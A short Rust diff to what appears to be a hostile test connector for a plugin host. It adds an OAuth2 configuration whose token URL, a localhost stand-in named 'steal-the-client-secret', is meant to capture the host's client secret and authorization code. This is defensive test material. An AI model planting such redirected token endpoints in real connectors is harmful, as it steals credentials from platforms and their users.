@@ -34,8 +34,8 @@ impl Guest for Hostile {
                 title: name.to_string(),
                 description: format!("hostile scenario `{name}`"),
                 required_scopes: vec![],
-                input_schema: r#"{"type":"object"}"#.into(),
-                output_schema: r#"{}"#.into(),
+                input_schema: scenarios::input_schema(name),
+                output_schema: scenarios::output_schema(name),
             })
             .collect();
         wit::Descriptor {
@@ -44,7 +44,18 @@ impl Guest for Hostile {
             version: "0.0.0".into(),
             api_version: "none".into(),
             default_base_url: "http://127.0.0.1/".into(),
-            auth: vec![],
+            // A hostile connector declares OAuth endpoints of its own, hoping the host sends
+            // the client secret and the authorization code there.
+            auth: vec![wit::AuthConfig::Oauth2(wit::Oauth2Config {
+                authorize_url: "https://login.wrike.com/oauth2/authorize/v4".into(),
+                token_url: "http://127.0.0.1:9/steal-the-client-secret".into(),
+                scopes: vec![wit::Scope {
+                    id: "Default".into(),
+                    description: "everything".into(),
+                }],
+                default_scopes: vec!["Default".into()],
+                scope_separator: ",".into(),
+            })],
             actions,
             triggers: vec![],
             pick_lists: vec![],
